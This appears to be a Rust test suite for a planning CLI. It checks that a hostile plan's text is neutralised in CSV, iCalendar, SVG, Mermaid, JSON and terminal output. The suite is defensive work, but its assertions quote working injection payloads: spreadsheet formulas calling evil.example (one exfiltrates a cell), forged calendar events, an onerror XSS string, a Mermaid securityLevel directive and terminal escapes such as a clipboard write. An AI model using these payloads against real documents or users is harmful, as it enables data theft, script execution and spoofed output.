//! A hostile plan (`tests/hostile/plan.toml`) through every export and
//! timeline format, each output read back by a real consumer: plan text
//! reaches spreadsheets, calendars, Mermaid and SVG readers as text, never
//! as a formula, a forged event, a directive or markup. The plan has errors
//! (invalid and duplicate ids), which views still print (exit 1).

mod common;

use std::collections::HashSet;

use common::{Test, root};

const TODAY: &str = "2024-04-01";

fn hostile() -> String {
    std::fs::read_to_string(root().join("tests/hostile/plan.toml")).expect("tests/hostile/plan.toml")
}

/// `icc ARGS --today 2024-04-01` on the hostile plan: its standard output,
/// after checking that it printed the plan and said it has errors.
fn run(args: &[&str]) -> String {
    let mut all = args.to_vec();
    all.extend_from_slice(&["--today", TODAY]);
    let out = Test::new().plan(&hostile()).args(&all).run();
    assert_eq!(
        out.code, 1,
        "{args:?}: a plan with errors is printed, exit 1\n{}",
        out.stderr
    );
    assert!(out.stderr.contains("errors"), "{args:?}: {}", out.stderr);
    assert!(!out.stdout.is_empty(), "{args:?}");
    out.stdout
}

/// How many of each thing the plan has, as `icc export --format json` says.
struct Counts {
    phases: usize,
    /// Workshops, milestones and occurrences: a VEVENT and a CSV row each.
    events: usize,
    /// Mermaid's tasks: phase bars, every event (cancelled ones too,
    /// marked as such), occurrences.
    tasks: usize,
    /// Workshops and milestones the picture draws as events (cancelled
    /// ones are struck out instead).
    marks: usize,
    occurrences: usize,
}

fn counts() -> Counts {
    let json: serde_json::Value = serde_json::from_str(&run(&["export", "--format", "json"])).unwrap();
    let list = |key: &str| json[key].as_array().unwrap().clone();
    let workshops = list("workshops");
    let cancelled = workshops.iter().filter(|w| w["status"] == "cancelled").count();
    let milestones = list("milestones").len();
    let occurrences: usize = list("recurring")
        .iter()
        .map(|r| r["occurrences"].as_array().unwrap().len())
        .sum();
    let phases = list("phases");
    let bars = phases
        .iter()
        .filter(|p| p["start"].is_string() && p["end"].is_string())
        .count();
    let counts = Counts {
        phases: phases.len(),
        events: workshops.len() + milestones + occurrences,
        tasks: bars + workshops.len() + milestones + occurrences,
        marks: workshops.len() - cancelled + milestones,
        occurrences,
    };
    // The fixture as written: a change to it shows here first.
    assert_eq!(
        (counts.phases, counts.events, counts.tasks, counts.occurrences),
        (3, 36, 39, 9)
    );
    counts
}

/// Characters that act on a reader rather than show: C0 and C1 controls,
/// the line and paragraph separators and the bidirectional controls.
fn acts(c: char) -> bool {
    c.is_control()
        || matches!(
            c,
            '\u{2028}' | '\u{2029}' | '\u{061C}' | '\u{200E}' | '\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}'
        )
}

// ── CSV ──────────────────────────────────────────────────────────────────

/// Every cell of every row (the header left out), read by the csv crate.
fn csv_cells(text: &str) -> Vec<csv::StringRecord> {
    let text = text.strip_prefix('\u{FEFF}').expect("a byte order mark");
    csv::Reader::from_reader(text.as_bytes())
        .records()
        .map(|r| r.expect("a CSV record"))
        .collect()
}

fn assert_no_formula(rows: &[csv::StringRecord], what: &str) {
    for row in rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{what}: a cell a spreadsheet runs as a formula: {cell:?}"
            );
            let bad: Vec<char> = cell.chars().filter(|&c| acts(c) && c != '\n' && c != '\r').collect();
            assert!(bad.is_empty(), "{what}: {bad:?} in {cell:?}");
        }
    }
}

#[test]
fn csv_cells_are_never_formulas() {
    let counts = counts();
    let events = csv_cells(&run(&["export", "--format", "csv"]));
    assert_eq!(events.len(), counts.events, "a row an event");
    assert_no_formula(&events, "events");
    let phases = csv_cells(&run(&["export", "--format", "csv", "--what", "phases"]));
    assert_eq!(phases.len(), counts.phases, "a row a phase");
    assert_no_formula(&phases, "phases");

    // Neutralised with a leading `'`, the text itself kept.
    let all: HashSet<&str> = events.iter().chain(&phases).flat_map(|r| r.iter()).collect();
    for cell in [
        "'=HYPERLINK(\"http://evil.example\",\"x\")",
        "'+40 ONG-uri; =1+1",
        "'@admin; -x",
        "'=1+2; @x",
        "'+y",
        "'-z\r\nEND:VEVENT",
        "'=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
        "'=cancelled()",
        "'+40 ONG-uri; \u{FFFD}]0;pwned\u{FFFD} \u{FFFD}31m",
        "'-1+1; @SUM(A1:A9)",
        "'\rCarriage; \u{FFFD}evil\u{FFFD}",
        "'@here",
    ] {
        assert!(all.contains(cell), "{cell:?} not among {all:#?}");
    }
    // Unsafe characters but line breaks become `�`; a tab first is no
    // formula then.
    assert!(all.contains("\u{FFFD}Tab first; \rCR first"), "{all:#?}");
    assert!(all.contains("\u{FFFD}Tabbed"), "{all:#?}");
    // Text that needs nothing is left as it is, and computed cells too.
    assert!(all.contains("Section heads: kickoff") && all.contains("2024-05-01 launch"));
    assert!(events.iter().any(|r| &r[1] == "w1\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:forged@evil\r\nSUMMARY:Forged\r\nDTSTART;VALUE=DATE:20240101\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:w1"));
}

// ── iCalendar ────────────────────────────────────────────────────────────

#[test]
fn ics_holds_each_event_once_and_nothing_forged() {
    let counts = counts();
    let text = run(&["export", "--format", "ics"]);
    // Line ends are CRLF and nothing else is a control character but HTAB
    // (RFC 5545 §3.1); no bidi controls or separators either.
    assert_eq!(text.matches('\r').count(), text.matches("\r\n").count(), "no lone CR");
    assert_eq!(text.matches('\n').count(), text.matches("\r\n").count(), "no lone LF");
    let bad: Vec<char> = text
        .chars()
        .filter(|&c| acts(c) && !matches!(c, '\r' | '\n' | '\t'))
        .collect();
    assert!(bad.is_empty(), "{bad:?}");
    assert!(text.lines().all(|l| l.len() <= 76), "folded at 75 octets");

    let mut parser = ical::IcalParser::new(text.as_bytes());
    let calendar = parser.next().expect("a calendar").expect("it parses");
    assert!(parser.next().is_none(), "one calendar");
    let names: Vec<&str> = calendar.properties.iter().map(|p| p.name.as_str()).collect();
    assert_eq!(
        names,
        ["VERSION", "PRODID", "CALSCALE", "METHOD", "X-WR-CALNAME"],
        "no property forged into the calendar"
    );
    assert_eq!(calendar.events.len(), counts.events, "a VEVENT an event, none forged");
    assert_eq!(
        text.split("\r\n").filter(|l| *l == "BEGIN:VEVENT").count(),
        counts.events,
        "`BEGIN:VEVENT` begins a line only where an event begins"
    );

    let known = [
        "UID",
        "DTSTAMP",
        "DTSTART",
        "DTEND",
        "SUMMARY",
        "DESCRIPTION",
        "LOCATION",
        "CATEGORIES",
        "STATUS",
        "TRANSP",
    ];
    let mut uids = HashSet::new();
    for event in &calendar.events {
        let mut seen = HashSet::new();
        for p in &event.properties {
            assert!(known.contains(&p.name.as_str()), "forged property {p:?}");
            assert!(seen.insert(p.name.clone()), "{} twice in one event", p.name);
            assert!(p.value.is_some(), "{p:?}");
        }
        let uid = event.properties.iter().find(|p| p.name == "UID").unwrap();
        let uid = uid.value.clone().unwrap();
        let (local, domain) = uid.rsplit_once('@').expect("local@domain");
        assert!(
            local.bytes().all(|b| b.is_ascii_alphanumeric() || b"-.%".contains(&b)),
            "{uid}: ids are percent-encoded"
        );
        assert!(domain.ends_with(".icc"), "{uid}");
        assert!(uids.insert(uid.clone()), "UID {uid} twice");
        // Every SUMMARY is a plan title, never `Forged`.
        let summary = event.properties.iter().find(|p| p.name == "SUMMARY").unwrap();
        assert_ne!(summary.value.as_deref(), Some("Forged"));
    }
    let local: HashSet<&str> = uids.iter().map(|u| u.rsplit_once('@').unwrap().0).collect();
    // An occurrence of `r` on 2024-05 and a workshop with id `r-2024-05`;
    // ids the plan repeats get `.2`, `.3` (no id holds a `.`).
    for uid in ["r-2024-05", "workshop.r-2024-05", "r-2", "dup", "dup.2", "dup.3"] {
        assert!(local.contains(uid), "{uid} not among {local:?}");
    }
    assert!(local.iter().any(|u| u.starts_with("w1%0D%0A%45%4E%44%3A")), "{local:?}");
    // The same plan and day give the same UIDs.
    assert_eq!(run(&["export", "--format", "ics"]), text);

    // Text is escaped TEXT (§3.3.11): the forged lines are inside a value.
    let described = calendar
        .events
        .iter()
        .filter_map(|e| e.properties.iter().find(|p| p.name == "DESCRIPTION"))
        .filter_map(|p| p.value.as_deref())
        .find(|d| d.starts_with("Objective: Gantt review"))
        .expect("the forged objective");
    assert!(
        described.starts_with("Objective: Gantt review\\nEND:VEVENT\\nBEGIN:VEVENT\\nSUMMARY:Forg"),
        "{described}"
    );
    assert!(
        described.contains("Activity: \u{FFFD}31m CSI \u{FFFD}[2J"),
        "{described}"
    );
    let name = calendar.properties.iter().find(|p| p.name == "X-WR-CALNAME").unwrap();
    assert!(
        name.value.as_deref().unwrap().contains("%%\\nsection Owned\\nclick x"),
        "{name:?}"
    );
}

// ── SVG ──────────────────────────────────────────────────────────────────

#[test]
fn svg_is_well_formed_xml_without_forbidden_characters() {
    let counts = counts();
    let text = run(&["timeline", "--format", "svg"]);
    // XML 1.0's Char: no C0 control but tab, LF, CR, and no U+FFFE, U+FFFF.
    let forbidden: Vec<char> = text
        .chars()
        .filter(|&c| (c < ' ' && !matches!(c, '\t' | '\n' | '\r')) || matches!(c, '\u{FFFE}' | '\u{FFFF}'))
        .collect();
    assert!(forbidden.is_empty(), "{forbidden:?}");
    let bad: Vec<char> = text.chars().filter(|&c| acts(c) && c != '\n').collect();
    assert!(bad.is_empty(), "{bad:?}");
    let doc = roxmltree::Document::parse(&text).expect("well-formed XML");
    let svg = doc.root_element();
    assert_eq!(svg.tag_name().name(), "svg");
    assert!(
        svg.descendants().all(|n| !n.is_element()
            || matches!(
                n.tag_name().name(),
                "svg" | "title" | "rect" | "text" | "g" | "line" | "circle" | "polygon" | "path" | "defs" | "marker"
            )),
        "no element from plan text"
    );
    // Nothing that runs or fetches: no event handler, no link but the
    // arrowhead's, which names a marker of the picture itself.
    let own_ids: HashSet<&str> = svg.descendants().filter_map(|n| n.attribute("id")).collect();
    for node in svg.descendants().filter(|n| n.is_element()) {
        for attribute in node.attributes() {
            let name = attribute.name();
            assert!(
                !name.starts_with("on") && name != "href" && name != "style",
                "{name} on {node:?}"
            );
            if let Some(url) = attribute.value().strip_prefix("url(#") {
                assert!(own_ids.contains(url.trim_end_matches(')')), "{url}");
            } else {
                assert!(!attribute.value().contains("url("), "{attribute:?}");
            }
        }
    }
    let class = |c: &'static str| svg.descendants().filter(move |n| n.attribute("class") == Some(c));
    // Names beside marks are the plan's text, escaped like the rest.
    let names: Vec<&str> = class("label").filter_map(|n| n.text()).collect();
    assert!(!names.is_empty(), "some names have room");
    for name in &names {
        assert!(!name.chars().any(acts), "{name:?}");
    }
    assert_eq!(class("event").count(), counts.marks);
    assert_eq!(class("recurring").count(), counts.occurrences);
    assert_eq!(class("phase").count(), counts.phases);
    let ids: Vec<&str> = class("event").map(|n| n.attribute("data-id").unwrap()).collect();
    assert!(ids.contains(&"<img src=x onerror=alert(1)>"), "{ids:?}");
    assert!(ids.contains(&"x click x call alert(1)"), "{ids:?}");
    assert!(ids.contains(&"a\u{FFFD}b\u{FFFD}c\u{FFFD}\u{FFFD}"), "{ids:?}");
    let title = svg.children().find(|n| n.has_tag_name("title")).unwrap();
    assert!(
        title.text().unwrap().ends_with("<img src=x onerror=alert(1)>"),
        "{title:?}"
    );
}

// ── Mermaid ──────────────────────────────────────────────────────────────

/// What Mermaid's gantt lexer (`gantt.jison`, case-insensitive) matches at
/// the start of a line before it takes the line as a task.
const KEYWORDS: [&str; 20] = [
    "gantt",
    "dateformat",
    "inclusiveenddates",
    "topaxis",
    "axisformat",
    "tickinterval",
    "includes",
    "excludes",
    "todaymarker",
    "weekday",
    "weekend",
    "title",
    "accdescription",
    "accdescr",
    "acctitle",
    "section",
    "click",
    "href",
    "call",
    "%%",
];

/// Whether a line's text begins with a keyword once Mermaid's lexer has
/// skipped what JavaScript's `\s` matches (white space, the BOM).
fn starts_with_keyword(text: &str) -> bool {
    let head = text.trim_start_matches(is_space).to_ascii_lowercase();
    KEYWORDS.iter().any(|k| head.starts_with(k))
}

fn is_space(c: char) -> bool {
    c.is_whitespace() || c == '\u{FEFF}'
}

/// Mermaid's entity codes (`#58;`) decoded, as it draws them.
fn decoded(text: &str) -> String {
    let mut out = String::new();
    let mut rest = text;
    while let Some(at) = rest.find('#') {
        out.push_str(&rest[..at]);
        let code = &rest[at + 1..];
        let end = code.find(';').expect("an entity code ends with `;`");
        let n: u32 = code[..end].parse().expect("a decimal entity code");
        out.push(char::from_u32(n).unwrap());
        rest = &code[end + 1..];
    }
    out.push_str(rest);
    out
}

#[test]
fn mermaid_lines_are_tasks_and_nothing_else() {
    let counts = counts();
    let text = run(&["timeline", "--format", "mermaid"]);
    assert!(!text.contains(['<', '>', '\r']), "{text}");
    assert!(
        !text.chars().any(|c| acts(c) && c != '\n'),
        "no control characters: {text:?}"
    );
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines[0], "gantt");
    let mut tasks = Vec::new();
    for line in &lines[1..] {
        assert!(line.starts_with("    ") && !line[4..].starts_with(is_space), "{line:?}");
        let body = &line[4..];
        // `%` starts a comment or a directive: only the axis format has one.
        assert!(!body.contains('%') || body == "axisFormat %Y-%m", "{line:?}");
        // Every `#` is an entity code, which Mermaid turns into text first.
        let mut rest = body;
        while let Some(at) = rest.find('#') {
            let code = &rest[at + 1..];
            let digits = code.bytes().take_while(u8::is_ascii_digit).count();
            assert!(digits > 0 && code[digits..].starts_with(';'), "{line:?}");
            rest = &code[digits..];
        }
        if let Some(title) = body.strip_prefix("title ") {
            assert!(!starts_with_keyword(title), "{line:?}");
        } else if let Some(section) = body.strip_prefix("section ") {
            assert!(!starts_with_keyword(section), "{line:?}");
        } else if body == "dateFormat YYYY-MM-DD" || body == "axisFormat %Y-%m" {
        } else {
            assert!(!starts_with_keyword(body), "a task line read as a statement: {line:?}");
            let date = body.len() >= 10
                && body.bytes().take(10).enumerate().all(|(i, b)| match i {
                    4 | 7 => b == b'-',
                    _ => b.is_ascii_digit(),
                });
            assert!(!date, "a task line read as a date: {line:?}");
            tasks.push(body);
        }
    }
    assert_eq!(lines.iter().filter(|l| l.starts_with("    title ")).count(), 1);
    assert_eq!(
        lines.iter().filter(|l| l.starts_with("    section ")).count(),
        counts.phases + 1,
        "a section a phase, and one for events in none"
    );
    assert_eq!(tasks.len(), counts.tasks, "a task line an event:\n{text}");

    let mut ids = HashSet::new();
    let mut names = HashSet::new();
    for task in &tasks {
        let (name, data) = task.split_once(" :").expect("name :data");
        assert!(!data.contains(':'), "{task:?}: `:` ends the name");
        let mut fields = data
            .split(", ")
            .skip_while(|f| ["milestone", "done", "active", "crit"].contains(f));
        let id = fields.next().unwrap();
        assert!(
            !id.is_empty() && id.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_'),
            "{task:?}: id {id:?}"
        );
        assert!(
            !["done", "active", "crit", "milestone", "vert"].contains(&id),
            "{task:?}: id read as a tag"
        );
        assert!(ids.insert(id.to_owned()), "task id {id} twice");
        names.insert(decoded(name));
    }
    // `r` repeats and stays apart from a real id `r-2`.
    for id in [
        "r", "r__2", "r-2", "dup", "dup__2", "dup__3", "t-done", "_74-done", "t-vert",
    ] {
        assert!(ids.contains(id), "{id} not among {ids:?}");
    }
    // The text is kept, as Mermaid draws it.
    for name in [
        "Section heads: kickoff",
        "Title deeds clinic",
        "Gantt review",
        "Click & Collect pilot",
        "weekday monday",
        "excludes weekends",
        "todayMarker off",
        "dateFormat YYYY",
        "2024-05-01 launch",
        "<img src=x onerror=alert(1)>",
        "%%{init: {\"securityLevel\": \"loose\"}}%%",
        "section bom",
        "title nbsp",
        "one section two  title three click four",
        "' quote \" and & amp",
    ] {
        assert!(names.contains(name), "{name:?} not among {names:#?}");
    }
}

// ── Terminals, JSON, GitHub ──────────────────────────────────────────────

/// Every human output of the hostile plan — tables, charts, findings with
/// their source lines, and whatever goes to standard error — holds no
/// character that acts on a terminal but line breaks (colour is off: any
/// escape would be the plan's).
#[test]
fn nothing_that_acts_on_a_terminal_reaches_one() {
    let commands: &[&[&str]] = &[
        &["status"],
        &["phases"],
        &["workshops"],
        &["timeline"],
        &["check"],
        &["workshops", "--phase", "nope\u{1b}]52;c;ZWNobw==\u{7}"],
        &["set-status", "w\u{9b}31m\u{202e}", "done"],
        &["add-workshop", "--title", "Nou\u{1b}[2J", "--date", "2024-05-01"],
        &["--plan", "pl\u{1b}]0;x\u{7}an.toml", "check"],
    ];
    for args in commands {
        let mut all = args.to_vec();
        all.extend_from_slice(&["--today", TODAY, "--color", "never"]);
        let t = Test::new().plan(&hostile()).args(&all);
        let out = t.run();
        for (stream, text) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
            let bad: Vec<char> = text.chars().filter(|&c| acts(c) && c != '\n').collect();
            assert!(bad.is_empty(), "{args:?} {stream}: {bad:?}\n{text}");
        }
    }
}

/// JSON holds the plan's text exactly, with every character that acts on a
/// reader written as an escape.
#[test]
fn json_escapes_what_acts_and_keeps_the_text() {
    for args in [
        &["check", "--format", "json"][..],
        &["status", "--format", "json"],
        &["export", "--format", "json"],
    ] {
        let mut all = args.to_vec();
        all.extend_from_slice(&["--today", TODAY]);
        let out = Test::new().plan(&hostile()).args(&all).run();
        let raw: Vec<char> = out.stdout.chars().filter(|&c| acts(c) && c != '\n').collect();
        assert!(raw.is_empty(), "{args:?}: {raw:?}");
        let value: serde_json::Value = serde_json::from_str(&out.stdout).expect("valid JSON");
        assert!(value.is_object());
    }
    let export = run(&["export", "--format", "json"]);
    let value: serde_json::Value = serde_json::from_str(&export).unwrap();
    let texts = value.to_string();
    assert!(
        texts.contains("\\u001b") || texts.contains('\u{1b}'),
        "the plan's escapes are kept, escaped"
    );
}

/// `--format github`: each finding is one workflow command, and nothing in
/// the log acts on a terminal showing it.
#[test]
fn github_lines_are_one_well_formed_command_each() {
    let out = Test::new()
        .plan(&hostile())
        .args(&["check", "--format", "github", "--today", TODAY])
        .run();
    let json = Test::new()
        .plan(&hostile())
        .args(&["check", "--format", "json", "--today", TODAY])
        .run();
    let findings = json.json()["diagnostics"].as_array().unwrap().len();
    let lines: Vec<&str> = out.stdout.lines().collect();
    assert_eq!(lines.len(), findings);
    for line in lines {
        assert!(
            ["::error ", "::warning ", "::notice "]
                .iter()
                .any(|p| line.starts_with(p)),
            "{line}"
        );
        let (properties, message) = line
            .split_once("::")
            .and_then(|(_, rest)| rest.split_once("::"))
            .expect("::command properties::message");
        assert!(properties.contains("file=plan.toml"), "{line}");
        assert!(!message.is_empty());
        assert!(!line.chars().any(acts), "{line:?}");
    }
}

/// What a user or a script passes on the command line is shown safe too:
/// in clap's own errors, in the diff of a dry run; and a line break in a
/// plan's id never starts a line of its own.
#[test]
fn arguments_and_ids_never_act_on_a_terminal() {
    let hostile_arg = "ARG\u{1b}]52;c;QQ==\u{7}\u{1b}[2J\u{202e}\u{9b}\u{2028}END";
    let plan = "[project]\nname = \"P\"\n\n[[phase]]\nid = \"p\\nerror: forged line at column 0\"\nname = \"P\"\nstart = \"2024-01\"\nend = \"2024-02\"\n";
    let cases: &[&[&str]] = &[
        &["--today", hostile_arg, "status"],
        &["timeline", "--from", hostile_arg],
        &[hostile_arg],
        &["--today", "2024\nerror: forged line", "status"],
        &["timeline", "--from=2024\terror\nerror: forged line"],
        &["nope\nerror: forged line"],
        &["workshops", "--phase", "zzz"],
        &["check"],
        &[
            "add-workshop",
            "--title",
            "X\u{202e}\u{9b}\u{2028}\u{85}Y",
            "--date",
            "2024-01-09",
            "--dry-run",
        ],
        &["add-workshop", "--title", "X", "--date", "2024-01-09", "--dry-run"],
    ];
    for args in cases {
        let out = Test::new().plan(plan).args(args).args(&["--color", "never"]).run();
        for (stream, text) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
            let bad: Vec<char> = text.chars().filter(|&c| acts(c) && c != '\n').collect();
            assert!(bad.is_empty(), "{args:?} {stream}: {bad:?}\n{text}");
            assert!(
                !text.lines().any(|l| l.starts_with("error: forged")),
                "{args:?} {stream}:\n{text}"
            );
        }
    }
}
